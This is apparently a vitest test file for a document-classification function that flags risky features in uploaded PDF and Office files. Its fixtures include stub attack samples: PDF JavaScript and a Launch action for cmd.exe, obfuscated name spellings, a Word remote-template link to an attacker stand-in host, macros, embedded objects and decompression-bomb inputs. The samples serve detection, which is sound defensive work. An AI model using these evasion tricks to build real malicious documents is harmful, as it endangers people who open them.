import { describe, expect, it } from 'vitest';
import { anArchive, anOdt, anOfficeFile, aPdf } from '../../../test/documents.ts';
import { type DocumentFacts, documentFacts } from './document-facts.ts';

const relation = (type: string, target: string) =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;

const followed = (bytes: Buffer, text: string): Buffer => Buffer.concat([bytes, Buffer.from(text)]);

const cases: [string, Buffer, DocumentFacts | undefined][] = [
  ['a PDF', aPdf(), { kind: 'PDF' }],
  ['a PDF with packed objects', aPdf({ packed: '6 0 <</Type/Font>>' }), { kind: 'PDF' }],
  ['a PDF that opens at a page', aPdf({ more: '6 0 obj\n<</OpenAction[3 0 R/Fit]>>\nendobj' }), { kind: 'PDF' }],
  ['a PDF with a program', aPdf({ more: '6 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj' }), { kind: 'PDF', trouble: 'active' }],
  ['a PDF with a program, spelled aside', aPdf({ more: '6 0 obj\n<</S/J#61vaScript/JS(1)>>\nendobj' }), { kind: 'PDF', trouble: 'active' }],
  ['a PDF with a program, packed', aPdf({ packed: '6 0 <</S/JavaScript/JS(1)>>' }), { kind: 'PDF', trouble: 'active' }],
  ['a PDF that starts a program', aPdf({ more: '6 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj' }), { kind: 'PDF', trouble: 'active' }],
  ['a PDF that holds a file', aPdf({ more: '6 0 obj\n<</Type/EmbeddedFile>>\nendobj' }), { kind: 'PDF', trouble: 'active' }],
  ['a PDF under a password', aPdf({ more: '6 0 obj\n<</Encrypt 7 0 R>>\nendobj' }), { kind: 'PDF', trouble: 'locked' }],
  [
    'a PDF with a link to a page about a language, and a list of languages',
    aPdf({
      more: '6 0 obj\n<</S/URI/URI(https://developer.example/docs/Web/JavaScript)>>\nendobj\n7 0 obj\n(TypeScript/JavaScript, CSS)\nendobj',
    }),
    { kind: 'PDF' },
  ],
  ['a PDF with a program, its kind said elsewhere', aPdf({ more: '6 0 obj/JavaScript endobj' }), { kind: 'PDF', trouble: 'active' }],
  [
    'a PDF whose packed objects are spelled aside',
    aPdf({ more: '6 0 obj\n<</Type/Obj#53tm>>stream\nx\nendstream\nendobj' }),
    { kind: 'PDF', trouble: 'unreadable' },
  ],
  ['a PDF that was cut', aPdf().subarray(0, 90), { kind: 'PDF', trouble: 'unreadable' }],
  [
    'a PDF whose packed objects nobody can unpack',
    aPdf({ more: '6 0 obj\n<</Type/ObjStm/Filter/LZWDecode>>stream\nxxxx\nendstream\nendobj' }),
    { kind: 'PDF', trouble: 'unreadable' },
  ],
  ['a Word text', anOfficeFile('docx'), { kind: 'DOCX' }],
  ['an Excel sheet', anOfficeFile('xlsx'), { kind: 'XLSX' }],
  ['PowerPoint slides', anOfficeFile('pptx'), { kind: 'PPTX' }],
  ['slides with a chart', anOfficeFile('pptx', { 'ppt/embeddings/Microsoft_Excel_Sheet.xlsx': 'x' }), { kind: 'PPTX' }],
  ['an OpenDocument text', anOdt(), { kind: 'ODT' }],
  [
    'a Word text with a link to click on',
    anOfficeFile('docx', { 'word/_rels/document.xml.rels': relation('hyperlink', 'https://example.test/') }),
    { kind: 'DOCX' },
  ],
  [
    'a Word text with a template from elsewhere',
    anOfficeFile('docx', { 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://attacker.test/t.dotm') }),
    { kind: 'DOCX', trouble: 'active' },
  ],
  [
    'a Word text with a template from elsewhere, called like a link',
    anOfficeFile('docx', { 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://attacker.test/hyperlink') }),
    { kind: 'DOCX', trouble: 'active' },
  ],
  [
    'a Word text with a template from elsewhere, in numbers',
    anOfficeFile('docx', {
      'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://attacker.test/t>u').replace('External', '&#69;xtern&#x61;l'),
    }),
    { kind: 'DOCX', trouble: 'active' },
  ],
  [
    'a Word text with relations in another alphabet',
    anOfficeFile('docx', { 'word/_rels/settings.xml.rels': [...relation('attachedTemplate', 'https://a.test')].join('\0') }),
    { kind: 'DOCX', trouble: 'unreadable' },
  ],
  [
    'a Word text with more relations than anybody reads',
    anOfficeFile('docx', { 'word/_rels/document.xml.rels': ' '.repeat(5 * 1024 * 1024) }),
    { kind: 'DOCX', trouble: 'unreadable' },
  ],
  ['a Word text with macros', anOfficeFile('docx', { 'word/vbaProject.bin': 'x' }), { kind: 'DOCX', trouble: 'active' }],
  [
    'a sheet that says it has macros',
    anOfficeFile('xlsx', {
      '[Content_Types].xml': '<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
    }),
    { kind: 'XLSX', trouble: 'active' },
  ],
  [
    'a Word text with an object inside',
    anOfficeFile('docx', { 'word/embeddings/oleObject1.bin': 'x' }),
    { kind: 'DOCX', trouble: 'active' },
  ],
  ['an OpenDocument text with macros', anOdt({ 'Basic/Standard/Module1.xml': 'x' }), { kind: 'ODT', trouble: 'active' }],
  [
    'an OpenDocument text under a password',
    anOdt({ 'META-INF/manifest.xml': '<manifest:encryption-data/>' }),
    { kind: 'ODT', trouble: 'locked' },
  ],
  ['an archive of anything', anArchive({ 'photo.exe': 'MZ' }), undefined],
  ['a Word text with a page after it', followed(anOfficeFile('docx'), '<script>alert(1)</script>'), undefined],
  ['a Word text that was cut', anOfficeFile('docx').subarray(0, 200), undefined],
  ['a page', Buffer.from('<!doctype html><script>alert(1)</script>'), undefined],
  ['a program', Buffer.from('MZ\u0090\u0000'), undefined],
  ['an old Word text', Buffer.from('d0cf11e0a1b11ae1', 'hex'), undefined],
  ['nothing', Buffer.alloc(0), undefined],
];

describe('what a document is, by its bytes', () => {
  it.each(cases)('N3: %s', async (_, bytes, facts) => {
    expect(await documentFacts(bytes)).toEqual(facts);
  });

  it('N3, F09: what is made to be read slowly is read as fast as the rest', async () => {
    const relations = anOfficeFile('docx', { 'word/_rels/document.xml.rels': '<'.repeat(1024 * 1024) });
    const streams = aPdf({ more: '/ObjStm '.repeat(600_000), packed: '6 0 <</Type/Font>>' });
    const start = performance.now();
    expect(await documentFacts(relations)).toEqual({ kind: 'DOCX' });
    expect(await documentFacts(streams)).toEqual({ kind: 'PDF' });
    // Minutes before; some tenths of a second now.
    expect(performance.now() - start).toBeLessThan(20_000);
  });

  it('N3: a stream that unpacks to more than anybody reads is unreadable, and stops there', async () => {
    expect(await documentFacts(aPdf({ packed: ' '.repeat(40 * 1024 * 1024) }))).toEqual({ kind: 'PDF', trouble: 'unreadable' });
  });
});
